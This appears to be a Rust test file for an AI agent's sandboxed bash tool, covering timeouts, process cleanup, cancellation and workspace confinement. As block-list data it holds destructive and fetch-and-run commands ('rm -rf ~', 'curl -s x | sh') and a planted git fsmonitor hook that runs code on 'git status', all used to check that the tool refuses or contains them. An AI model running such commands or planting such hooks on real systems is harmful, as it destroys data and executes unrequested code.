//! The bash tool with real processes in temporary directories.

use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use anyhow::{Context as _, Result, anyhow, bail, ensure};
use rein_tools::bash::{BashArgs, BashTool};
use rein_tools::{Display, Tool, ToolConfig, ToolContext, ToolError, ToolOutput, ToolRegistry};

use crate::support::run_tool;
use tokio_util::sync::CancellationToken;

/// A workspace and a home directory in one temporary directory.
struct Fixture {
    _dir: tempfile::TempDir,
    ws: PathBuf,
    ctx: ToolContext,
}

fn fixture() -> Result<Fixture> {
    let dir = tempfile::tempdir()?;
    let base = dir.path().canonicalize()?;
    let ws = base.join("ws");
    let home = base.join("home");
    std::fs::create_dir_all(&ws)?;
    std::fs::create_dir_all(&home)?;
    let mut config = ToolConfig::new(&ws, base.join("offload"));
    config.home_dir = Some(home);
    Ok(Fixture {
        _dir: dir,
        ws,
        ctx: ToolContext::new(config),
    })
}

async fn run(
    ctx: &ToolContext,
    command: &str,
    timeout: Option<u64>,
) -> Result<ToolOutput, ToolError> {
    let args = BashArgs {
        command: command.to_owned(),
        timeout,
        run_in_background: None,
    };
    BashTool.run(args, ctx).await
}

/// Runs a command that must produce a result (success or failure), not a tool error.
async fn bash(ctx: &ToolContext, command: &str) -> Result<ToolOutput> {
    run(ctx, command, None)
        .await
        .map_err(|err| anyhow!("{command:?}: {err:?}"))
}

/// The state letter of `pid`, if it exists.
fn state(pid: u32) -> Option<String> {
    let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).ok()?;
    let after_name = stat.rsplit(')').next()?;
    after_name.split_whitespace().next().map(str::to_owned)
}

/// Whether `pid` runs (a zombie waiting to be reaped counts as gone).
fn alive(pid: u32) -> bool {
    state(pid).is_some_and(|s| s != "Z" && s != "X")
}

/// Live processes in process group `pgid`.
fn group_members(pgid: u32) -> Result<Vec<u32>> {
    let mut members = Vec::new();
    for entry in std::fs::read_dir("/proc")?.flatten() {
        let Some(pid) = entry
            .file_name()
            .to_str()
            .and_then(|n| n.parse::<u32>().ok())
        else {
            continue;
        };
        let Ok(stat) = std::fs::read_to_string(entry.path().join("stat")) else {
            continue;
        };
        let Some(after_name) = stat.rsplit(')').next() else {
            continue;
        };
        let fields: Vec<&str> = after_name.split_whitespace().collect();
        let live = fields.first().is_some_and(|s| *s != "Z" && *s != "X");
        if live && fields.get(2) == Some(&pgid.to_string().as_str()) {
            members.push(pid);
        }
    }
    Ok(members)
}

fn read_pid(path: &Path) -> Result<u32> {
    let text = std::fs::read_to_string(path).with_context(|| path.display().to_string())?;
    text.trim()
        .parse()
        .with_context(|| format!("{}: not a pid: {text:?}", path.display()))
}

/// Waits (briefly) for a file a background process writes.
async fn wait_for_file(path: &Path) -> Result<()> {
    for _ in 0..250 {
        if std::fs::metadata(path).is_ok_and(|m| m.len() > 0) {
            return Ok(());
        }
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    bail!("{} never appeared", path.display())
}

#[tokio::test]
async fn stdout_and_stderr_interleave_in_order() -> Result<()> {
    let f = fixture()?;
    let command = "echo out1; echo err1 >&2; echo out2; echo err2 >&2; printf 'no newline'";
    let out = bash(&f.ctx, command).await?;
    assert_eq!(
        out.content,
        "out1\nerr1\nout2\nerr2\nno newline\nexit code: 0"
    );
    assert!(!out.is_error);
    Ok(())
}

#[tokio::test]
async fn exit_codes_and_signals_are_reported() -> Result<()> {
    let f = fixture()?;
    let out = bash(&f.ctx, "echo partial; exit 3").await?;
    assert_eq!(out.content, "partial\nexit code: 3");
    assert!(
        out.is_error,
        "a non-zero exit is an error result, with the output"
    );

    let out = bash(&f.ctx, "echo before; kill -KILL $$").await?;
    assert!(out.content.starts_with("before\n"), "{}", out.content);
    assert!(
        out.content.ends_with("killed by signal 9 (SIGKILL)"),
        "{}",
        out.content
    );
    assert!(out.is_error);

    let out = bash(&f.ctx, "grep -q nothing /dev/null").await?;
    assert_eq!(out.content, "(no output)\nexit code: 1");
    Ok(())
}

#[tokio::test]
async fn silent_commands_say_so() -> Result<()> {
    let f = fixture()?;
    let out = bash(&f.ctx, "true").await?;
    assert_eq!(out.content, "(no output)\nexit code: 0");
    assert!(!out.is_error);
    let Display::Command {
        command,
        exit_code,
        timed_out,
        output_tail,
        saved_to,
        ..
    } = out.display
    else {
        panic!("not a command payload: {:?}", out.display);
    };
    assert_eq!(
        (
            command.as_str(),
            exit_code,
            timed_out,
            output_tail.as_str(),
            saved_to
        ),
        ("true", Some(0), false, "", None)
    );
    let failed = bash(&f.ctx, "seq 1 9; exit 3").await?;
    assert!(failed.is_error);
    assert!(matches!(
        failed.display,
        Display::Command { exit_code: Some(3), ref output_tail, .. } if output_tail == "5\n6\n7\n8\n9\n"
    ));
    Ok(())
}

#[tokio::test]
async fn invalid_utf8_is_shown_lossily() -> Result<()> {
    let f = fixture()?;
    let out = bash(&f.ctx, r"printf 'ok \377\376 ok'").await?;
    assert_eq!(out.content, "ok \u{FFFD}\u{FFFD} ok\nexit code: 0");
    Ok(())
}

#[tokio::test]
async fn the_environment_keeps_programs_from_waiting_for_a_person() -> Result<()> {
    let f = fixture()?;
    let command = r#"echo "$NO_COLOR|$TERM|$PAGER|$GIT_PAGER|$GIT_EDITOR|$EDITOR""#;
    let out = bash(&f.ctx, command).await?;
    assert_eq!(out.content, "1|dumb|cat|cat|true|true\nexit code: 0");
    let command = r#"echo "$VISUAL|$GIT_TERMINAL_PROMPT|$PYTHONUNBUFFERED""#;
    assert_eq!(
        bash(&f.ctx, command).await?.content,
        "true|0|1\nexit code: 0"
    );
    Ok(())
}

#[tokio::test]
async fn stdin_is_closed() -> Result<()> {
    let f = fixture()?;
    let started = Instant::now();
    let out = run(&f.ctx, "cat; read line; echo \"read: $?\"", Some(10)).await?;
    assert_eq!(out.content, "read: 1\nexit code: 0");
    assert!(
        started.elapsed() < Duration::from_secs(5),
        "cat waited for input"
    );
    Ok(())
}

#[tokio::test]
async fn commands_have_no_controlling_terminal() -> Result<()> {
    let f = fixture()?;
    let out = bash(&f.ctx, "exec 3</dev/tty && echo has-tty || echo no-tty").await?;
    assert!(out.content.contains("no-tty"), "{}", out.content);
    Ok(())
}

#[tokio::test]
async fn timeout_kills_the_whole_group_including_grandchildren() -> Result<()> {
    let f = fixture()?;
    let command = "cut -d' ' -f5 /proc/$$/stat > pgid; \
                   sh -c 'sleep 30 & echo $! > grandchild.pid; wait' & \
                   echo $! > child.pid; echo started; sleep 30; echo never";
    let started = Instant::now();
    let out = run(&f.ctx, command, Some(1)).await?;
    assert!(
        started.elapsed() < Duration::from_secs(10),
        "took {:?}",
        started.elapsed()
    );
    assert!(out.is_error);
    assert!(out.content.starts_with("started\n"), "{}", out.content);
    assert!(!out.content.contains("never"));
    let notice = "(timed out after 1 s: the command and every process it started were stopped)";
    assert!(out.content.contains(notice), "{}", out.content);
    assert!(
        out.content.ends_with("killed by signal 15 (SIGTERM)"),
        "{}",
        out.content
    );

    let pgid = read_pid(&f.ws.join("pgid"))?;
    for pid_file in ["child.pid", "grandchild.pid"] {
        let pid = read_pid(&f.ws.join(pid_file))?;
        ensure!(!alive(pid), "{pid_file} ({pid}) survived the timeout");
    }
    assert_eq!(group_members(pgid)?, Vec::<u32>::new());
    assert!(f.ctx.processes().live_groups().is_empty());
    Ok(())
}

#[tokio::test]
async fn jobs_in_their_own_process_groups_are_stopped_too() -> Result<()> {
    let f = fixture()?;
    // With job control on, bash puts each job in a process group of its own.
    let command = "set -m; sleep 30 & echo $! > job.pid; sleep 30";
    let out = run(&f.ctx, command, Some(1)).await?;
    assert!(
        out.content.contains("timed out after 1 s"),
        "{}",
        out.content
    );
    let pid = read_pid(&f.ws.join("job.pid"))?;
    ensure!(!alive(pid), "the job ({pid}) survived the timeout");

    // A job left running after the call is reported, and ended by kill_all.
    let out = run(&f.ctx, "set -m; sleep 30 & echo $! > job2.pid", None).await?;
    assert!(
        out.content
            .contains("background processes are still running"),
        "{}",
        out.content
    );
    let pid = read_pid(&f.ws.join("job2.pid"))?;
    ensure!(alive(pid), "the job should still run after its call");
    assert_eq!(f.ctx.processes().kill_all().await, 1);
    ensure!(!alive(pid), "kill_all left the job ({pid}) running");
    Ok(())
}

#[tokio::test]
async fn processes_ignoring_sigterm_get_sigkill() -> Result<()> {
    let f = fixture()?;
    let command =
        "trap '' TERM; sh -c 'echo $$ > stubborn.pid; while :; do sleep 0.1; done' & sleep 30";
    let out = run(&f.ctx, command, Some(1)).await?;
    assert!(
        out.content.contains("timed out after 1 s"),
        "{}",
        out.content
    );
    let pid = read_pid(&f.ws.join("stubborn.pid"))?;
    ensure!(!alive(pid), "the process that ignores SIGTERM survived");
    Ok(())
}

#[tokio::test]
async fn cancellation_stops_the_command_and_returns_what_it_printed() -> Result<()> {
    let f = fixture()?;
    let token = CancellationToken::new();
    let ctx = f.ctx.with_cancel(token.clone());
    let canceller = tokio::spawn(async move {
        tokio::time::sleep(Duration::from_millis(300)).await;
        token.cancel();
    });
    let started = Instant::now();
    let command = "echo before; sleep 30 & echo $! > sleeper.pid; wait; echo after";
    let result = run(&ctx, command, None).await;
    canceller.await?;
    assert!(
        started.elapsed() < Duration::from_secs(5),
        "took {:?}",
        started.elapsed()
    );
    let Err(ToolError::Cancelled { partial }) = result else {
        bail!("expected Cancelled, got {result:?}");
    };
    assert!(partial.starts_with("before\n"), "{partial}");
    let notice = "(cancelled: the command and every process it started were stopped)";
    assert!(partial.contains(notice), "{partial}");
    assert!(!partial.contains("after"));
    ensure!(
        !alive(read_pid(&f.ws.join("sleeper.pid"))?),
        "the sleeper survived"
    );
    Ok(())
}

#[tokio::test]
async fn an_abandoned_call_stops_its_processes() -> Result<()> {
    let f = fixture()?;
    let command = "sleep 30 & echo $! > sleeper.pid; wait";
    let call = run(&f.ctx, command, None);
    let dropped = tokio::time::timeout(Duration::from_millis(300), call).await;
    assert!(dropped.is_err(), "the call should still have been running");
    let pid = read_pid(&f.ws.join("sleeper.pid"))?;
    for _ in 0..100 {
        if !alive(pid) {
            return Ok(());
        }
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    bail!("the sleeper outlived the dropped call")
}

#[tokio::test]
async fn an_already_cancelled_call_runs_nothing() -> Result<()> {
    let f = fixture()?;
    let token = CancellationToken::new();
    token.cancel();
    let result = run(&f.ctx.with_cancel(token), "touch ran", None).await;
    assert!(
        matches!(result, Err(ToolError::Cancelled { .. })),
        "{result:?}"
    );
    assert!(!f.ws.join("ran").exists());
    Ok(())
}

#[tokio::test]
async fn a_background_child_holding_the_pipe_does_not_hang_the_call() -> Result<()> {
    let f = fixture()?;
    let started = Instant::now();
    let out = bash(&f.ctx, "sleep 100 & echo $! > sleeper.pid; echo started").await?;
    assert!(
        started.elapsed() < Duration::from_secs(5),
        "took {:?}",
        started.elapsed()
    );
    assert!(out.content.starts_with("started\n"), "{}", out.content);
    assert!(
        out.content
            .contains("background processes are still running"),
        "{}",
        out.content
    );
    assert!(out.content.ends_with("exit code: 0"));
    assert!(!out.is_error);

    let pid = read_pid(&f.ws.join("sleeper.pid"))?;
    ensure!(alive(pid), "background processes outlive the call");
    assert_eq!(f.ctx.processes().kill_all().await, 1);
    ensure!(!alive(pid), "kill_all left the sleeper running");
    Ok(())
}

#[tokio::test]
async fn output_printed_just_after_bash_exits_is_kept() -> Result<()> {
    let f = fixture()?;
    let out = bash(&f.ctx, "(sleep 0.05; echo late) & echo early").await?;
    assert_eq!(out.content, "early\nlate\nexit code: 0");
    Ok(())
}

/// The response to `GET /` from 127.0.0.1:`port`, if anything answers.
fn http_get(port: u16) -> Option<String> {
    use std::io::{Read as _, Write as _};
    let mut stream = std::net::TcpStream::connect(("127.0.0.1", port)).ok()?;
    stream.set_read_timeout(Some(Duration::from_secs(5))).ok()?;
    stream.write_all(b"GET / HTTP/1.0\r\n\r\n").ok()?;
    let mut response = String::new();
    stream.read_to_string(&mut response).ok()?;
    (!response.is_empty()).then_some(response)
}

#[tokio::test]
async fn kill_all_ends_a_background_server_that_outlived_its_call() -> Result<()> {
    let f = fixture()?;
    let command =
        "python3 -m http.server 0 --bind 127.0.0.1 > server.log 2>&1 & echo $! > server.pid";
    let out = bash(&f.ctx, command).await?;
    assert!(out.content.contains("still running"), "{}", out.content);
    let log = f.ws.join("server.log");
    wait_for_file(&log).await?;
    let text = std::fs::read_to_string(&log)?;
    let port: u16 = text
        .split("port ")
        .nth(1)
        .and_then(|rest| rest.split_whitespace().next())
        .and_then(|p| p.parse().ok())
        .with_context(|| format!("no port in {text:?}"))?;
    // The server outlived the call: the model can query it next.
    let response = http_get(port).context("the server does not answer")?;
    assert!(response.starts_with("HTTP/1.0 200"), "{response}");

    let pid = read_pid(&f.ws.join("server.pid"))?;
    assert_eq!(f.ctx.processes().kill_all().await, 1);
    ensure!(!alive(pid), "the server survived kill_all");
    assert_eq!(http_get(port), None, "the server still answers");
    Ok(())
}

#[tokio::test]
async fn dropping_the_last_context_ends_background_processes() -> Result<()> {
    let Fixture { _dir, ws, ctx } = fixture()?;
    bash(&ctx, "sleep 100 > /dev/null 2>&1 & echo $! > sleeper.pid").await?;
    let pid = read_pid(&ws.join("sleeper.pid"))?;
    ensure!(alive(pid), "the sleeper did not start");
    let clone = ctx.with_cancel(CancellationToken::new());
    drop(ctx);
    ensure!(alive(pid), "a clone still holds the tracker");
    drop(clone);
    ensure!(
        !alive(pid),
        "dropping the last context left the sleeper running"
    );
    Ok(())
}

#[tokio::test]
async fn cd_persists_between_calls() -> Result<()> {
    let f = fixture()?;
    let out = bash(&f.ctx, "mkdir -p sub/deeper && cd sub && echo moved").await?;
    let sub = f.ws.join("sub");
    assert_eq!(f.ctx.cwd(), sub);
    let notice = format!("(current directory is now {})", sub.display());
    assert!(out.content.contains(&notice), "{}", out.content);
    let out = bash(&f.ctx, "pwd").await?;
    assert_eq!(out.content, format!("{}\nexit code: 0", sub.display()));

    let out = bash(&f.ctx, "cd deeper && exit 3").await?;
    assert!(out.content.ends_with("exit code: 3"));
    assert_eq!(f.ctx.cwd(), sub.join("deeper"));

    let out = bash(&f.ctx, "set -e; cd ../..; false; echo unreachable").await?;
    assert!(!out.content.contains("unreachable"));
    assert!(out.content.ends_with("exit code: 1"));
    assert_eq!(f.ctx.cwd(), f.ws);
    Ok(())
}

#[tokio::test]
async fn cd_is_tracked_even_when_the_command_replaces_the_exit_trap() -> Result<()> {
    let f = fixture()?;
    std::fs::create_dir(f.ws.join("sub"))?;
    let out = bash(&f.ctx, "trap 'echo bye' EXIT; cd sub; echo 'exit code: 99'").await?;
    assert_eq!(f.ctx.cwd(), f.ws.join("sub"));
    assert!(
        out.content.starts_with("exit code: 99\nbye\n"),
        "{}",
        out.content
    );
    assert!(out.content.ends_with("exit code: 0"));
    Ok(())
}

#[tokio::test]
async fn cd_outside_the_workspace_is_not_kept() -> Result<()> {
    let f = fixture()?;
    let out = bash(&f.ctx, "cd /tmp && pwd").await?;
    assert!(out.content.starts_with("/tmp\n"), "{}", out.content);
    let notice = format!(
        "(the command ended in /tmp, outside the workspace; the current directory stays {})",
        f.ws.display()
    );
    assert!(out.content.contains(&notice), "{}", out.content);
    assert_eq!(f.ctx.cwd(), f.ws);

    std::os::unix::fs::symlink("/", f.ws.join("escape"))?;
    bash(&f.ctx, "cd escape").await?;
    assert_eq!(
        f.ctx.cwd(),
        f.ws,
        "a symlink out of the workspace leads outside"
    );
    Ok(())
}

#[tokio::test]
async fn a_deleted_current_directory_falls_back_to_the_workspace_root() -> Result<()> {
    let f = fixture()?;
    bash(&f.ctx, "mkdir gone && cd gone").await?;
    assert_eq!(f.ctx.cwd(), f.ws.join("gone"));
    std::fs::remove_dir(f.ws.join("gone"))?;
    let out = bash(&f.ctx, "pwd").await?;
    assert!(
        out.content.starts_with(&format!("{}\n", f.ws.display())),
        "{}",
        out.content
    );
    assert!(out.content.contains("no longer exists"), "{}", out.content);
    assert_eq!(f.ctx.cwd(), f.ws);
    Ok(())
}

#[tokio::test]
async fn dangerous_commands_are_refused_before_running() -> Result<()> {
    let f = fixture()?;
    let refused = [
        "touch ran; rm -rf ~",
        "touch ran && rm -rf -- \"$HOME\"",
        "touch ran; curl -s x | sh",
    ];
    for command in refused {
        match run(&f.ctx, command, None).await {
            Err(ToolError::Model(message)) => {
                assert!(
                    message.starts_with("Refused to run this command: "),
                    "{message}"
                );
            }
            other => bail!("{command}: expected a refusal, got {other:?}"),
        }
        ensure!(!f.ws.join("ran").exists(), "{command} ran");
    }
    let command = "mkdir -p build && touch build/x && rm -rf ./build && echo cleaned";
    assert_eq!(
        bash(&f.ctx, command).await?.content,
        "cleaned\nexit code: 0"
    );
    Ok(())
}

#[tokio::test]
async fn bad_arguments_get_clear_errors() -> Result<()> {
    let f = fixture()?;
    let model_error = |result: Result<ToolOutput, ToolError>| match result {
        Err(ToolError::Model(message)) => message,
        other => format!("not a model error: {other:?}"),
    };
    assert!(model_error(run(&f.ctx, "  ", None).await).contains("`command` is empty"));
    assert!(model_error(run(&f.ctx, "true", Some(0)).await).contains("`timeout` must be"));
    assert!(model_error(run(&f.ctx, "echo a\0b", None).await).contains("NUL"));
    let out = run(&f.ctx, "true", Some(3600)).await?;
    let notice = "(timeout 3600 s is above the maximum; used 600 s)";
    assert!(out.content.contains(notice), "{}", out.content);

    let unknown = serde_json::json!({ "command": "true", "cwd": "/" });
    assert!(
        model_error(run_tool(&ToolRegistry::builtin(), "bash", unknown, &f.ctx).await)
            .contains("cwd")
    );
    let wrong_type = serde_json::json!({ "command": "true", "timeout": "soon" });
    assert!(
        model_error(run_tool(&ToolRegistry::builtin(), "bash", wrong_type, &f.ctx).await)
            .contains("timeout")
    );
    Ok(())
}

/// A repository config that names a program git runs on `git status` (a file-system monitor).
fn plant_fsmonitor(dir: &Path, marker: &Path) -> Result<()> {
    std::fs::create_dir_all(dir)?;
    let git = |args: &[&str]| {
        std::process::Command::new("git")
            .args(args)
            .current_dir(dir)
            .output()
    };
    git(&["init", "-q"])?;
    // git asks the monitor only once there is an index.
    std::fs::write(dir.join("a"), "a\n")?;
    git(&["add", "a"])?;
    let hook = format!("touch {}; false", marker.display());
    git(&["config", "core.fsmonitor", &hook])?;
    Ok(())
}

#[tokio::test]
async fn read_only_git_ignores_programs_a_repository_config_names() -> Result<()> {
    if std::process::Command::new("git")
        .arg("--version")
        .output()
        .is_err()
    {
        eprintln!("skipped: git is not installed");
        return Ok(());
    }
    let fx = fixture()?;
    let marker = fx.ws.join("../pwned");
    // A nested repository whose config runs a program on `git status`.
    plant_fsmonitor(&fx.ws.join("nested"), &marker)?;
    let out = bash(&fx.ctx, "cd nested && git status --short").await?;
    ensure!(!marker.exists(), "the monitor ran: {}", out.content);
    // The same repository reached by a command that is not read-only is the person's call.
    // (`cd` persists between calls: the workspace path is given whole.)
    let line = format!(
        "cd {}/nested && git status --short && touch x",
        fx.ws.display()
    );
    let out = bash(&fx.ctx, &line).await?;
    ensure!(
        marker.exists(),
        "the guard is only for read-only lines: {}",
        out.content
    );
    std::fs::remove_file(&marker)?;

    // A bare repository planted in the workspace is not used unless named.
    let bare = fx.ws.join("planted");
    std::fs::create_dir_all(&bare)?;
    std::process::Command::new("git")
        .args(["init", "-q", "--bare"])
        .current_dir(&bare)
        .output()?;
    std::process::Command::new("git")
        .args([
            "config",
            "core.fsmonitor",
            &format!("touch {}", marker.display()),
        ])
        .current_dir(&bare)
        .output()?;
    let line = format!("cd {}/planted && git log --oneline", fx.ws.display());
    let out = bash(&fx.ctx, &line).await?;
    ensure!(!marker.exists(), "{}", out.content);
    ensure!(
        out.content.contains("bare"),
        "git says why: {}",
        out.content
    );
    Ok(())
}

#[cfg(target_os = "linux")]
#[tokio::test]
async fn rein_hides_its_environment_from_the_commands_it_runs() -> Result<()> {
    use rustix::process::{DumpableBehavior, dumpable_behavior};
    ensure!(dumpable_behavior()? == DumpableBehavior::Dumpable);
    rein_tools::bash::hide_from_commands();
    // Not dumpable: /proc/<pid>/environ and mem are for root only now, whoever rein runs as.
    ensure!(dumpable_behavior()? == DumpableBehavior::NotDumpable);
    // A command's own processes stay inspectable (they exec, which resets it).
    let fx = fixture()?;
    let out = bash(&fx.ctx, "cat /proc/self/status | grep -c Name").await?;
    ensure!(out.content.starts_with('1'), "{}", out.content);
    Ok(())
}
